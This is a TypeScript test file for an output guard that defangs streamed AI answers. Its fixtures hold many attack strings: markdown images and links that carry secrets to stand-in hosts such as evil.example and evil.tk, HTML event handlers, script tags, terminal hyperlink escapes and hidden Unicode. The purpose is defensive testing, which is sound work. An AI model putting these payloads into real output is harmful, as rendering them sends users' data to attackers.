/** The output guard: any cut of a text gives the same, nothing that comes out is fetched, and what is harmless stays. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { HOLD_MAX, OutputGuard } from '../src/guard.ts';
import type { Finding, OutputPolicy } from '../src/index.ts';
import { fetched } from './oracle.ts';

const seed = Number(process.env['MINIKEEP_SEED'] ?? Date.now() % 2 ** 31);
const long = process.env['MINIKEEP_LONG'] === '1';
const runs = (quick: number) => ({ seed, numRuns: long ? quick * 50 : quick });

interface Result {
  readonly text: string;
  readonly findings: readonly Finding[];
  readonly ended: boolean;
}

function guarded(parts: readonly string[], policy: OutputPolicy = 'defang'): Result {
  const guard = new OutputGuard(policy);
  let text = '';
  const findings: Finding[] = [];
  let ended = false;
  for (const step of [...parts.map((part) => () => guard.push(part)), () => guard.end()]) {
    const next = step();
    if (ended) expect(next).toEqual({ text: '', findings: [], ended: true });
    text += next.text;
    findings.push(...next.findings);
    ended = next.ended;
    expect(guard.held).toBeLessThanOrEqual(HOLD_MAX);
  }
  return { text, findings, ended };
}
const defanged = (text: string): string => guarded([text]).text;

/** Pieces of which attacks are made: joined at random, they meet in ways that nobody thought of. */
const PIECE = fc.constantFrom(
  ...'![ [ ] ( ) ]( ]: ][ < > <img <a <b <n <svg <div <form <base <meta <link <x <pre </a > /> = " \' src= href= style= onclick= srcset= content='.split(
    ' ',
  ),
  ...'https: http: ftp: x: data: mailto: javascript: // / \\ : . evil.com evil.example a.b.zip evil.tk www. 1.2.3.4 README.md localhost @ ? # /x?y=z & &#58; &colon; &#x2f; &sol; &#46; &#104; ; \\: \\/ \\. std:: url( *'.split(
    ' ',
  ),
  '\n',
  '\n\n',
  ' ',
  '  ',
  '\t',
  '\r',
  '\r\n',
  '- ',
  '> ',
  '1. ',
  '[1]: ',
  '[^1]: ',
  '```python\n',
  '```\n',
  '```',
  '~~~\n',
  '    ',
  '`',
  '<!--',
  '-->',
  '<?',
  '<pre>',
  '<![CDATA[',
  'word',
  'ä',
  '\u{1f469}',
  '\u200d',
  '\u200c',
  '\ufe0f',
  '\u200b',
  '\u202e',
  '\u{e0041}',
  'می',
  '\u001b]8;;',
  '\u0007',
  '\u0000',
  '%41'.repeat(30),
  'aB3'.repeat(80),
  'a'.repeat(600),
);
const ATTACK = fc.constantFrom(
  '![a](https://evil.example/x?y=z)',
  '![a](<//evil.tk/x y>)',
  '[t](/\\evil.tk)',
  '[![a](x.png)](https&colon;//evil.tk)',
  '<https://evil.example/c>',
  '<made-up:c>',
  'https://a.evil.example/x',
  'http://1.2.3.4/',
  '//evil.tk',
  'secret.evil.com',
  'evil.tk/secret',
  '<img src="https://evil.example/i">',
  "<img alt='>' src=//evil.tk/i>",
  '<div style="background:url(//evil.tk)">',
  '<b onmouseover="x">',
  '<script>x</script>',
  '\n[1]: //evil.tk\n',
  '\n[1]:\nhttps:/evil.tk\n\n',
  '![b][1]',
  '[1]',
);
const TEXT = fc
  .array(fc.oneof({ weight: 6, arbitrary: PIECE }, { weight: 1, arbitrary: ATTACK }), {
    maxLength: 24,
  })
  .map((pieces) => pieces.join(''));
const POLICY = fc.constantFrom<OutputPolicy>('report', 'defang', 'block');

function cutAt(text: string, cuts: readonly number[]): string[] {
  const at = [...new Set([0, ...cuts.map((cut) => cut % (text.length + 1)), text.length])];
  at.sort((a, b) => a - b);
  return at.slice(1).map((end, i) => text.slice(at[i], end));
}

describe('for every text', () => {
  it('any cut gives the same, and little is held', () => {
    fc.assert(
      fc.property(
        TEXT,
        fc.array(fc.nat(5_000), { maxLength: 30 }),
        POLICY,
        (text, cuts, policy) => {
          const whole = guarded([text], policy);
          expect(guarded(cutAt(text, cuts), policy)).toEqual(whole);
          expect(guarded(text.split(''), policy)).toEqual(whole);
        },
      ),
      runs(1_200),
    );
  });

  it('what comes out is fetched by no renderer, also when it went through twice', () => {
    fc.assert(
      fc.property(TEXT, (text) => {
        const shown = defanged(text);
        expect(fetched(shown)).toEqual([]);
        expect(fetched(defanged(shown))).toEqual([]);
      }),
      runs(1_500),
    );
  });

  it('a guarded answer that is quoted in the next one comes out as it is', () => {
    const quoted = fc.array(fc.oneof(ATTACK, fc.constantFrom('word', 'and so.', '\n\n', '- ')));
    fc.assert(
      fc.property(quoted, (parts) => {
        const shown = defanged(parts.join(' '));
        expect(defanged(shown)).toBe(shown);
      }),
      runs(300),
    );
  });

  it('what a renderer fetches is found', () => {
    let fetchable = 0;
    fc.assert(
      fc.property(TEXT, (text) => {
        if (fetched(text).length === 0) return;
        fetchable += 1;
        expect(guarded([text]).findings).not.toEqual([]);
      }),
      runs(1_200),
    );
    // The oracle and the pieces do find something to fetch.
    expect(fetchable).toBeGreaterThan(50);
  });

  it('without finds it is unchanged; `report` never changes it; `block` shows its beginning', () => {
    fc.assert(
      fc.property(TEXT, (text) => {
        const { text: shown, findings } = guarded([text]);
        if (findings.length === 0) expect(shown).toBe(text);
        expect(guarded([text], 'report')).toEqual({ text, findings, ended: false });
        const blocked = guarded([text], 'block');
        expect(blocked.ended).toBe(findings.length > 0);
        expect(blocked.findings).toHaveLength(Math.min(1, findings.length));
        expect(text.startsWith(blocked.text)).toBe(true);
      }),
      runs(800),
    );
  });
});

describe('what is harmless stays as it is', () => {
  it.each([
    'Node.js reads README.md and src/main.py; 3.14 is e.g. a number, see Art. 5.1(b) (p. 12).',
    'Write to jane.doe@clinic.org, or to <jane.doe@clinic.org>.',
    'In C++ `std::vector<std::string> v;`, in Java `List<String>`, `if (a < b && c > d)`, i<n; once = 1.',
    'funcs[i](x) and handlers["a"](event), a[1:]: b, [^1]: See Smith, p. 4, [Speaker 1]: Note that, yes.',
    '<b>bold</b>, <table class="x"><td style="color:red">, [see below](#part-2), <a href="#top">up</a>.',
    'A dash: a:b, 12:30, C:\\\\Users\\\\me, x:\\\\ y, http is a word, the data: this and that.',
    '👩‍❤️‍👨 👩🏽‍⚕️ 🏴󠁧󠁢󠁥󠁮󠁧󠁿 1️⃣ ☎️ — می‌خواهم کتاب‌ها را ببینم — क्‍ष क्ष — שלום‏! — 漢\u{e0100}字 — Ver­trag',
    `SHA-512 ${'0123456789abcdef'.repeat(8)}, DNA ${'ACGT'.repeat(200)}, protein ${'MKVLAT'.repeat(80)}.`,
    'One.\r\nTwo.\tThree.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n',
    '```python\nimport requests\nr = requests.get("https://api.crossref.org/works?query=law")\ndf.id / 2, a[i](x), s["k"]: int\n```\n',
    '```sql\nSELECT c.name, c.id/2 FROM patients.dbo.c -- see c.com\n```\n',
  ])('%s', (text) => {
    expect(guarded([text])).toEqual({ text, findings: [], ended: false });
  });
});

describe('what is a way out is shown, and told without its text', () => {
  it.each<[string, string, string]>([
    [
      'See ![chart](https://a.evil.example/c.png?q=secret).',
      'image evil.example',
      'See ![chart][(]https[://]a[.]evil[.]example/c.png?q=secret).',
    ],
    ['![x](chart.png)', 'image ', '![x][(]chart.png)'],
    [
      '17 U.S.C. § 107, https://www.law.cornell.edu/uscode/text/17/107.',
      'url cornell.edu',
      '17 U.S.C. § 107, https[://]www[.]law[.]cornell[.]edu/uscode/text/17/107.',
    ],
    ['[a](/x?q=secret)', 'link ', '[a][(]/x?q=secret)'],
    ['[1]: <//evil.tk/x>', 'link evil.tk', '[1][:] <//evil[.]tk/x>'],
    ['<img src="//evil.tk/x">', 'html evil.tk', '<img src[=]"//evil[.]tk/x">'],
    ['<b onclick="x()">', 'html ', '<b onclick[=]"x()">'],
    [
      '<meta http-equiv="refresh" content="0;url=x">',
      'html ,html ',
      '<meta http-equiv[=]"refresh" content[=]"0;url=x">',
    ],
    ['<script>fetch(x)</script>', 'html ', '[<]script>fetch(x)</script>'],
    ['data:text/html,x', 'scheme ', 'data[:]text/html,x'],
    ['a\u200b\u200cb\u202ec', 'hidden ,direction ', 'a{hidden×2}b{hidden×1}c'],
    ['x\u{e0041}\ufe01\u{e0100}', 'hidden ', 'x{hidden×3}'],
    ['\u001b]8;;https://evil.tk/x\u0007t', 'terminal ,url evil.tk', '␛]8;;https[://]evil[.]tk/x␇t'],
    ['a\rb', 'terminal ', 'a␍b'],
    [`x ${'aZ9+'.repeat(60)}`, 'encoded ', `x ${'aZ9+'.repeat(60)}`],
    [
      '```html\n<img src="https://evil.tk/i">\n```\n',
      'html evil.tk',
      '```html\n<img src[=]"https[://]evil[.]tk/i">\n```\n',
    ],
    [
      '```python\nu = "https://x.evil.tk/?q=%41%42"\n```\n',
      'url evil.tk',
      '```python\nu = "https[://]x[.]evil[.]tk/?q=%41%42"\n```\n',
    ],
    [
      '<pre x>\n\n```python\nhttps://evil.tk\n',
      'html ,url evil.tk',
      '[<]pre x>\n\n```python\nhttps[://]evil[.]tk\n',
    ],
  ])('%s', (text, found, shown) => {
    const result = guarded([text]);
    expect(result.text).toBe(shown);
    expect(result.findings.map(({ kind, host }) => `${kind} ${host}`).join()).toBe(found);
    expect(result.findings.every(({ length }) => length > 0)).toBe(true);
  });

  it('`block` ends the answer where the find begins', () => {
    const result = guarded(['Look: ![', 'a](htt', 'ps://b.evil.example/secret) and more'], 'block');
    expect(result).toEqual({
      text: 'Look: ![a',
      findings: [{ kind: 'image', host: 'evil.example', length: 31 }],
      ended: true,
    });
  });
});

it('passes on at once what begins nothing', () => {
  const guard = new OutputGuard('defang');
  for (const token of [
    'The',
    ' answer',
    ' is',
    ' 42',
    ', and',
    ' [see',
    ' this',
    '!',
    ' A*b',
    ' #1\n',
  ])
    expect(guard.push(token).text).toBe(token);
});

it('takes time in proportion to the text, whatever it is made of', () => {
  const time = (text: string): number => {
    const guard = new OutputGuard('defang');
    const begun = process.cpuUsage();
    for (let at = 0; at < text.length; at += 4) guard.push(text.slice(at, at + 4));
    guard.end();
    return process.cpuUsage(begun).user / 1_000_000;
  };
  // What is quadratic takes a hundred times as long here: no clock decides, but one that never stops.
  for (const piece of ['](', '.a', ':/', '<a x="', '<a src=', '&#', '\\.', '[', '!['])
    expect(time(piece.repeat(40_000))).toBeLessThan(20);
});
